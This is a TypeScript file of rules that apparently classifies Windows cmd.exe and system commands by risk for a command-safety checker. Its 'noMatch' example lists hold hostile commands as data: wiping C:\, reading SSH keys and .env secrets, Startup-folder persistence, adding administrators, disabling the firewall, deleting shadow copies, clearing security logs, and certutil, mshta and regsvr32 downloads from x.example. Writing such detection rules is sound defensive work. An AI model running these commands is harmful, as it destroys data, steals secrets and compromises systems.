/** What cmd.exe has built in, and programs that only Windows has. */
import { hasMark, mark, plainGlobs } from '../../paths/marks.js';
import { act } from '../../rules/acts.js';
import type { Rule, VerbRule } from '../../rules/rule.js';
import { type Arg, type Call, type CallOutput, nothing, type PathRole } from '../../run/call.js';
import { checkVariable } from '../../run/environment.js';
import { withCwds, withVariable } from '../../run/state.js';
import { runInput } from '../builtins.js';

type Handler = NonNullable<VerbRule['handler']>;

const isOption = (arg: Arg): boolean => /^\/[A-Za-z?-]/.test(arg.text);
const operandsOf = (args: readonly Arg[]): readonly Arg[] => args.filter(arg => !isOption(arg));
const hasOption = (args: readonly Arg[], letter: string): boolean => args.some(arg => arg.text.toLowerCase().split('/').includes(letter));

const onFiles =
  (role: PathRole): Handler =>
  call => {
    let known = {};
    for (const arg of operandsOf(call.args)) known = { ...known, ...call.host.touch(role, arg, call.state) };
    return role === 'read' ? known : { text: '' };
  };

const copy =
  (moves: boolean): Handler =>
  call => {
    const operands = operandsOf(call.args).flatMap(arg => arg.text.split('+').map(text => ({ text, span: arg.span })));
    const target = operands.length > 1 ? operands.at(-1) : { text: '.', span: call.span };
    for (const source of operands.slice(0, Math.max(1, operands.length - 1))) {
      call.host.touch('read', source, call.state);
      if (moves) call.host.touch(/^nul$/i.test(target?.text ?? '') ? 'delete' : 'edit', source, call.state);
    }
    if (target && !/^(?:nul|con)$/i.test(target.text)) call.host.touch('write', target, call.state);
    return { text: '' };
  };

/** `robocopy from to files /MIR`: a mirror deletes what the source has not. */
const robocopy: Handler = call => {
  const [from, to] = operandsOf(call.args);
  if (from) call.host.touch('read', from, call.state);
  if (to) call.host.touch(hasOption(call.args, 'mir') || hasOption(call.args, 'purge') ? 'delete' : 'write', to, call.state);
  if (from && (hasOption(call.args, 'mov') || hasOption(call.args, 'move'))) call.host.touch('delete', from, call.state);
  return nothing;
};

const cd: Handler = call => {
  const [to] = operandsOf(call.args);
  if (to === undefined) return { text: call.state.cwds[0] ?? mark.unknown };
  return { text: '', state: withCwds(call.state, call.host.resolve(to.text, call.state)) };
};

/** `set A=b`: the parser has split at the equals sign. */
function set(call: Call): CallOutput {
  const { args, host, state, span } = call;
  const operands = operandsOf(args);
  const [first, ...rest] = operands;
  if (first === undefined) return nothing;
  if (args.some(arg => /^\/p$/i.test(arg.text)))
    return { text: '', state: withVariable(state, (first.text.split('=')[0] ?? '').toLowerCase(), mark.unknown) };
  const joined = [first.text, ...rest.map(arg => arg.text)];
  const [name = '', ...inline] = (joined[0] ?? '').split('=');
  const value = [...inline, ...joined.slice(1)].join(inline.length > 0 && joined.length > 1 ? ' ' : inline.length > 0 ? '=' : ' ');
  if (value === '' && rest.length === 0 && !first.text.includes('=')) return nothing;
  checkVariable(/^path$/i.test(name) ? 'Path' : name.toUpperCase(), value, { host, state, span, kept: true });
  return { text: '', state: withVariable(state, name.toLowerCase(), value) };
}

/** `cmd /c "…"`: the rest of the line is read once more. */
const shell: Handler = call => {
  const { args, host, state, stdin, span } = call;
  const at = args.findIndex(arg => /^\/(?:[cCkKrR]|[a-zA-Z:]*\/[cCkK])/.test(arg.text));
  if (at < 0) {
    if (stdin.text !== undefined || stdin.fetched) return runInput(stdin, { host, state, span }, 'cmd');
    host.unknown('cmd, which runs what it is given', span);
    return nothing;
  }
  const glued = /^\/[cCkKrR](.+)$/.exec(args[at]?.text ?? '')?.[1];
  const text = [...(glued ? [glued] : []), ...args.slice(at + 1).map(arg => plainGlobs(arg.text))].join(' ');
  if (hasMark(text)) host.unknown('a command that is not wholly known', span);
  return host.code('cmd', text.replace(/[\uFDD0-\uFDD8]/g, '%unknown%'), state, stdin, span).stdout;
};

const start: Handler = call => {
  // The first word in quotes is a title.
  const words = call.args.filter(
    arg => !/^\/(?:min|max|wait|b|d|low|normal|high|realtime|abovenormal|belownormal|separate|shared|i|node|affinity)/i.test(arg.text),
  );
  const rest = words[0]?.text === '' ? words.slice(1) : words;
  const [program] = rest;
  if (program === undefined) return nothing;
  if (/^https?:/.test(program.text)) act('fetch', call, program.text);
  else call.host.run(rest, call.state, nothing, call.span);
  return nothing;
};

const taskkill: Handler = call => {
  const text = call.args.map(arg => arg.text).join(' ');
  if (/[*\uFDD2]|lsass|csrss|winlogon|explorer\.exe|svchost|\/s\b/i.test(text))
    call.host.effect({ kind: 'stop', target: text, place: 'system' }, call.span);
  else act('kill', call, text);
  return nothing;
};

/** Subcommands that read; any other one changes the system. */
const readsOr =
  (pattern: RegExp, otherwise: string): Handler =>
  call => {
    const text = call.args.map(arg => arg.text).join(' ');
    act(pattern.test(text) ? '' : otherwise, call, `${call.name} ${text}`.slice(0, 100));
    return nothing;
  };

/** Programs that come with Windows and that fetch or run code for any caller. */
const proxies: Handler = call => {
  const text = call.args.map(arg => arg.text).join(' ');
  if (/https?:|\\\\|javascript:|vbscript:|scrobj|urlcache/i.test(text)) act('fetched', call, `${call.name} ${text}`.slice(0, 100));
  else call.host.unknown(`${call.name} ${text}`.slice(0, 100), call.span);
  return nothing;
};

const certutil: Handler = call => {
  const text = call.args.map(arg => arg.text).join(' ');
  if (/-hashfile|^-dump|^-viewstore/i.test(text)) return nothing;
  return proxies(call);
};

const forfiles: Handler = call => {
  const at = call.args.findIndex(arg => /^\/c$/i.test(arg.text));
  const code = call.args[at + 1];
  if (at >= 0 && code)
    call.host.code('cmd', code.text.replace(/@(?:path|file|fname|relpath)/gi, '%found%'), call.state, nothing, code.span);
  return nothing;
};

const shows = (names: string, match: readonly string[]): Rule => ({ names, operands: 'skip*', level: 'read-only', match });

/** Built into cmd.exe, where they differ from programs of the same name elsewhere. */
export const cmdRules: readonly Rule[] = [
  {
    names: 'dir',
    handler: call => {
      const files = operandsOf(call.args);
      for (const arg of files) call.host.touch('list', arg, call.state);
      const starts = files.length > 0 ? files.map(arg => arg.text) : ['.'];
      return { paths: starts.map(start => (/[\uFDD2\uFDD3]/.test(start) ? start : `${start}/${mark.below}`)) };
    },
    level: 'read-only',
    match: ['dir', 'dir /s /b src'],
  },
  {
    names: 'type more',
    handler: onFiles('read'),
    level: 'read-only',
    match: ['type README.md'],
    noMatch: ['type .env', 'type %USERPROFILE%\\.ssh\\id_rsa'],
  },
  {
    names: 'find findstr sort fc comp',
    handler: call => {
      for (const arg of operandsOf(call.args).slice(call.name.startsWith('find') ? 1 : 0)) call.host.touch('read', arg, call.state);
      return nothing;
    },
    level: 'read-only',
    match: ['findstr /s foo *.ts', 'sort a.txt'],
    noMatch: ['findstr KEY .env'],
  },
  {
    names: 'del erase',
    handler: onFiles('delete'),
    level: 'writes',
    match: ['del build\\a.obj', 'del /q *.log'],
    noMatch: ['del /s /q C:\\', 'del /f /q *', 'del %USERPROFILE%\\x.txt'],
  },
  {
    names: 'rd rmdir',
    handler: onFiles('delete'),
    level: 'writes',
    match: ['rd /s /q node_modules', 'rmdir build'],
    noMatch: ['rd /s /q C:\\', 'rmdir /s /q %USERPROFILE%', 'rd /s /q .'],
  },
  { names: 'md mkdir', handler: onFiles('create'), level: 'writes', match: ['mkdir build', 'md a\\b'], noMatch: ['md C:\\Windows\\x'] },
  {
    names: 'copy xcopy',
    handler: copy(false),
    level: 'writes',
    match: ['copy a.txt b.txt', 'xcopy /s src build'],
    noMatch: [
      'copy x C:\\Windows\\System32\\x',
      'copy nul src\\a.ts & copy x "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat"',
    ],
  },
  {
    names: 'move ren rename replace',
    handler: copy(true),
    level: 'writes',
    match: ['move a b', 'ren a.txt b.txt'],
    noMatch: ['move x C:\\Windows\\x'],
  },
  {
    names: 'robocopy',
    handler: robocopy,
    level: 'writes',
    match: ['robocopy src build /E'],
    noMatch: ['robocopy empty src /MIR', 'robocopy a C:\\Windows'],
  },
  { names: 'cd chdir pushd', handler: cd, level: 'read-only', match: ['cd src', 'cd ..'] },
  { names: 'popd', handler: ({ state }) => ({ text: '', state: withCwds(state, [undefined]) }), level: 'read-only', match: ['popd'] },
  {
    names: 'set',
    handler: set,
    level: 'read-only',
    match: ['set NAME=value', 'set'],
    noMatch: ['set PATH=C:\\Temp;%PATH%', 'set COMSPEC=x'],
  },
  {
    names: 'echo',
    handler: ({ args }) => ({ text: `${args.map(arg => plainGlobs(arg.text)).join(' ')}\n` }),
    level: 'read-only',
    match: ['echo hi', 'echo off'],
    noMatch: ['echo del /q *| cmd', 'echo x > C:\\Windows\\x'],
  },
  {
    names: 'start',
    handler: start,
    level: 'network',
    match: ['start "" https://example.com'],
    noMatch: ['start cmd /c del /q *', 'start powershell -c "rm -r C:\\"'],
  },
  {
    names: 'call',
    handler: call => call.host.run(call.args, call.state, call.stdin, call.span).stdout,
    level: 'network',
    match: ['call build.bat'],
    noMatch: ['call del /q *'],
  },
  shows(
    'exit pause cls ver vol title color prompt rem setlocal endlocal shift goto break verify date time path chcp mode tree if else for',
    ['cls', 'ver', 'setlocal'],
  ),
  {
    names: 'assoc ftype',
    handler: readsOr(/^[.\w]*$/, 'system'),
    level: 'read-only',
    match: ['assoc .txt'],
    noMatch: ['ftype txtfile=x.exe'],
  },
  { names: 'mklink', does: 'strange', operands: 'skip*', level: 'unknown', match: ['mklink /d a C:\\'] },
  { names: 'at', does: 'hijack', operands: 'skip*', level: 'privileged', match: ['at 10:00 x'] },
  { names: 'shutdown', does: 'privilege', operands: 'skip*', level: 'privileged', match: ['shutdown /s /t 0'] },
  { names: 'format', does: 'device', operands: 'skip*', level: 'privileged', match: ['format C: /q'] },
  { names: 'where timeout choice', handler: () => nothing, level: 'read-only', match: ['where node', 'timeout /t 5'] },
];

/** Programs of Windows, from whatever shell. */
export const windowsRules: readonly Rule[] = [
  { names: 'cmd', handler: shell, level: 'read-only', match: ['cmd /c dir'], noMatch: ['cmd /c del /s /q C:\\', 'cmd'] },
  shows(
    'tasklist systeminfo ipconfig getmac driverquery query quser qwinsta nbtstat openfiles gpresult typeperf perfmon msinfo32 dxdiag winver eventvwr pathping tracert',
    ['tasklist', 'systeminfo'],
  ),
  {
    names: 'taskkill tskill',
    handler: taskkill,
    level: 'unknown',
    match: ['taskkill /im node.exe /f'],
    noMatch: ['taskkill /f /im *', 'taskkill /f /im lsass.exe'],
  },
  {
    names: 'reg',
    handler: readsOr(/^(?:query|compare|export\s)/i, 'system'),
    level: 'read-only',
    match: ['reg query HKCU\\Software'],
    noMatch: ['reg add HKLM\\x /v y', 'reg delete HKCU\\x /f'],
  },
  {
    names: 'sc',
    handler: readsOr(/^(?:query\w*|qc|qdescription|enumdepend)/i, 'privilege'),
    level: 'read-only',
    match: ['sc query'],
    noMatch: ['sc stop x', 'sc create x binPath= y'],
  },
  {
    names: 'net net1',
    handler: readsOr(
      /^(?:view|statistics|config|time|session|helpmsg|help|user|localgroup|accounts|share|use|start|group)\s*\S*$/i,
      'privilege',
    ),
    level: 'read-only',
    match: ['net user', 'net view'],
    noMatch: ['net user x y /add', 'net stop x', 'net localgroup administrators x /add'],
  },
  {
    names: 'schtasks',
    handler: readsOr(/^\/query/i, 'hijack'),
    level: 'read-only',
    match: ['schtasks /query'],
    noMatch: ['schtasks /create /tn x /tr y'],
  },
  {
    names: 'netsh',
    handler: readsOr(/\b(?:show|dump)\b/i, 'privilege'),
    level: 'read-only',
    match: ['netsh wlan show profiles'],
    noMatch: ['netsh advfirewall set allprofiles state off'],
  },
  {
    names: 'wmic',
    handler: readsOr(/\b(?:get|list)\b(?!.*\b(?:call|delete|create)\b)/i, 'privilege'),
    level: 'read-only',
    match: ['wmic cpu get name'],
    noMatch: ['wmic process call create x', 'wmic shadowcopy delete'],
  },
  {
    names:
      'icacls cacls takeown attrib runas setx bcdedit bootrec vssadmin wbadmin dism sfc chkdsk diskshadow fsutil powercfg auditpol wevtutil secedit gpupdate pnputil regini reagentc manage-bde cipher defrag label subst compact logoff msg tscon rasdial slmgr winrm wecutil ntdsutil dsquery klist ksetup cmdkey mountvol sdelete regsvcs',
    does: 'privilege',
    operands: 'skip*',
    level: 'privileged',
    match: [
      'icacls C:\\ /grant x:F',
      'vssadmin delete shadows /all',
      'bcdedit /set x y',
      'setx PATH x',
      'cipher /w:C:\\',
      'wevtutil cl Security',
    ],
  },
  {
    names:
      'regedit regsvr32 rundll32 mshta wscript cscript bitsadmin msiexec installutil regasm msxsl odbcconf hh cmstp ieexec control pcalua scriptrunner xwizard presentationhost infdefaultinstall desktopimgdownldr',
    handler: proxies,
    level: 'unknown',
    match: ['rundll32 x.dll,y', 'regsvr32 a.dll', 'msiexec /i a.msi'],
    noMatch: [
      'mshta https://x.example/a.hta',
      'regsvr32 /s /u /i:https://x.example/a.sct scrobj.dll',
      'bitsadmin /transfer x https://x.example/a a',
    ],
  },
  {
    names: 'certutil certreq',
    handler: certutil,
    level: 'read-only',
    match: ['certutil -hashfile a.zip SHA256'],
    noMatch: ['certutil -urlcache -f https://x.example/a.exe a.exe', 'certutil -decode a b'],
  },
  {
    names: 'forfiles',
    handler: forfiles,
    level: 'read-only',
    match: ['forfiles /m *.log'],
    noMatch: ['forfiles /p C:\\ /s /c "cmd /c del @path"'],
  },
  {
    names: 'explorer notepad mspaint calc write wordpad taskmgr mmc devmgmt.msc services.msc',
    handler: call => {
      for (const arg of operandsOf(call.args)) {
        if (/^https?:/.test(arg.text)) act('fetch', call, arg.text);
        else if (/\.(?:exe|bat|cmd|ps1|vbs|js|hta|lnk|msi|scr)$/i.test(arg.text)) call.host.touch('run', arg, call.state);
        else call.host.touch('read', arg, call.state);
      }
      return nothing;
    },
    level: 'read-only',
    match: ['notepad a.txt', 'explorer .'],
    noMatch: ['explorer C:\\Temp\\x.exe'],
  },
  {
    names: 'wsl',
    handler: call => {
      const at = call.args.findIndex(arg => !arg.text.startsWith('-'));
      const rest = at < 0 ? [] : call.args.slice(at);
      if (rest.length === 0) act(call.args.some(arg => /^-(?:l|-list|-status|-version)/.test(arg.text)) ? '' : 'privilege', call, 'wsl');
      else call.host.run(rest, call.state, call.stdin, call.span);
      return nothing;
    },
    level: 'read-only',
    match: ['wsl -l', 'wsl ls'],
    noMatch: ['wsl rm -rf /', 'wsl --unregister x'],
  },
];
